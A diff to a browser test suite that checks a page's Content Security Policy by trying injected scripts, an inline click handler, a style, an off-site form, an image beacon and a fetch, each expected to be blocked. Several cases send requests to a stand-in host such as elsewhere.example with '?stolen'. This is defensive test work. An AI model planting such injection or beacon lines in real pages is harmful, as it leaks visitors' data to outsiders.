@@ -121,57 +121,43 @@ describe("on a page that a visitor reads", () => {
     [
       "a script that was smuggled in",
       "script-src",
-      () => {
-        const script = document.createElement("script");
-        script.textContent = "document.title = 'stolen'";
-        document.body.append(script);
-      },
+      `document.body.append(Object.assign(document.createElement("script"), { textContent: "document.title = 'stolen'" }))`,
     ],
     [
       "a handler that was smuggled in",
       "script-src",
-      () => {
-        const button = document.createElement("button");
-        button.setAttribute("onclick", "document.title = 'stolen'");
-        document.body.append(button);
-        button.click();
-      },
+      `const button = document.createElement("button");
+       button.setAttribute("onclick", "document.title = 'stolen'");
+       document.body.append(button);
+       button.click()`,
     ],
     [
       "a style that was smuggled in",
       "style-src",
-      () => {
-        document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>");
-      },
+      `document.body.insertAdjacentHTML("beforeend", "<p style='color: red'>")`,
     ],
     [
       "a form that leads elsewhere",
       "form-action",
-      () => {
-        const form = document.createElement("form");
-        form.action = "https://elsewhere.example/";
-        form.dataset.ready = "";
-        document.body.append(form);
-        form.submit();
-      },
+      `const form = document.createElement("form");
+       form.action = "https://elsewhere.example/";
+       form.dataset.ready = "";
+       document.body.append(form);
+       form.submit()`,
     ],
     [
       "a picture that tells somebody",
       "img-src",
-      () => {
-        new Image().src = "https://elsewhere.example/?stolen";
-      },
+      `new Image().src = "https://elsewhere.example/?stolen"`,
     ],
     [
       "a call that tells somebody",
       "connect-src",
-      () => {
-        fetch("https://elsewhere.example/").catch(() => {});
-      },
+      `fetch("https://elsewhere.example/").catch(() => {})`,
     ],
   ] as const)("%s is stopped by %s", async (_what, directive, smuggle) => {
     asha.forgiveComplaints();
-    await asha.page.evaluate(smuggle);
+    await asha.page.evaluate(`{ ${smuggle} }`);
     await expect
       .poll(() => asha.complaints().join())
       .toContain(`stopped ${directive}`);
